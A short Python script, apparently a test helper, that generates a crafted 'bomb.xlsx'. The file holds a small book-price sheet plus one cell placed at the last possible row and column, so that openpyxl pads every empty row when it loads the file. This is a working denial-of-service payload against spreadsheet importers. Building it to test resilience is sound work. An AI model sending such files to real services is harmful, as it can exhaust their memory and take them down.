"""A tiny .xlsx whose sheet says it spans A1:XFD<N> with a last cell at row N: openpyxl pads every gap row."""
import sys
import zipfile

from openpyxl import Workbook

last = int(sys.argv[1]) if len(sys.argv) > 1 else 1048576
out = sys.argv[2] if len(sys.argv) > 2 else "bomb.xlsx"
wb = Workbook(); ws = wb.active
ws.append(["条形码", "书名", "定价"]); ws.append(["B1", "草房子", 18])
ws.cell(row=last, column=16384, value="x")
wb.save("_tmp.xlsx")
zin = zipfile.ZipFile("_tmp.xlsx")
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
    for item in zin.infolist():
        zout.writestr(item, zin.read(item.filename))
print(out, "bytes:", sum(1 for _ in open(out, "rb").read()))
